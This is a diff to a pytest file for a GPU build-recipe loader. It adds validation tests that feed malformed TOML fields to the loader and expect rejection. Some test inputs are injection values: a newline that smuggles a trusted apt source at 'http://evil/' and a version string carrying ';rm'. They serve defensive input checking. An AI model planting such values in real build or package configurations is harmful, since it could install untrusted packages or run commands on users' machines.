@@ -90,8 +90,47 @@ def _write(tmp_path, text, name="gfx1030"):
         ),
         (lambda t: t.replace('suite = "unstable"', 'suite = ""'), "field 'toolchain.suite'"),
         (lambda t: t.replace("[toolchain]", "[toolchain\n"), "gfx1030.toml: not valid TOML"),
+        # a newline in a field that reaches the Dockerfile / apt sources: a second apt source
+        (
+            lambda t: t.replace('suite = "unstable"',
+                                'suite = "unstable\\ndeb [trusted=yes] http://evil/ x main"'),
+            "field 'toolchain.suite': control character '\\n' in 'unstable\\ndeb [trusted=yes]",
+        ),
+        (
+            lambda t: t.replace('suite = "unstable"', 'suite = "unstable main"'),
+            "field 'toolchain.suite': 'unstable main' is not a valid suite",
+        ),
+        (
+            lambda t: t.replace('hipcc = "7.0.2+dfsg-3"', 'hipcc = "7.0.2+dfsg-3\\tx"'),
+            "field 'toolchain.packages.hipcc': control character '\\t'",
+        ),
+        (
+            lambda t: t.replace('hipcc = "7.0.2+dfsg-3"', 'hipcc = "7.0.2;rm"'),
+            "field 'toolchain.packages.hipcc': '7.0.2;rm' is not a valid version",
+        ),
+        (
+            lambda t: t.replace("hipcc = ", "'hipcc/x' = "),
+            "field 'toolchain.packages': 'hipcc/x' is not a valid package",
+        ),
+        (
+            lambda t: t.replace('compile_flags = ["-O3"]', 'compile_flags = ["-O3\\n-O0"]'),
+            "field 'compile_flags': control character '\\n'",
+        ),
+        (
+            lambda t: t.replace('"gfx1030"]  # self', '"gfx 1030"]  # self'),
+            "field 'runner_labels': 'gfx 1030' is not a valid label",
+        ),
+        # the target and what is compiled into its package must agree
+        (
+            lambda t: t.replace('archs = ["gfx1030"]', 'archs = ["gfx1100"]'),
+            "field 'archs': ['gfx1100'] does not contain the target 'gfx1030'",
+        ),
+        (
+            lambda t: t.replace('archs = ["gfx1030"]', 'archs = ["gfx1030", "gfx1031"]'),
+            "field 'archs': the exact target 'gfx1030' lists only itself, got ['gfx1030', 'gfx1031']",
+        ),
     ],
-)
+)  # fmt: skip
 def test_malformed_recipe(tmp_path, edit, message):
     with pytest.raises(RecipeError, match=re.escape(message)):
         load_recipe(_write(tmp_path, edit(GOOD)))
@@ -105,6 +144,17 @@ def test_generic_recipe_needs_v6(tmp_path):
     )
     with pytest.raises(RecipeError, match="5, but generic targets need code-object v6"):
         load_recipe(_write(tmp_path, text, "gfx11-generic"))
+
+
+def test_generic_recipe_archs_stay_in_the_family(tmp_path):
+    text = (REPO / "recipes" / "gfx11-generic.toml").read_text()
+    ok = text.replace('archs = ["gfx11-generic"]', 'archs = ["gfx11-generic", "gfx1103"]')
+    assert load_recipe(_write(tmp_path, ok, "gfx11-generic")).archs == ("gfx11-generic", "gfx1103")
+    bad = text.replace('archs = ["gfx11-generic"]', 'archs = ["gfx11-generic", "gfx1200"]')
+    with pytest.raises(
+        RecipeError, match=re.escape("['gfx1200'] are not in the gfx11-generic family")
+    ):
+        load_recipe(_write(tmp_path, bad, "gfx11-generic"))
 
 
 def test_unknown_target_lists_the_known_ones():
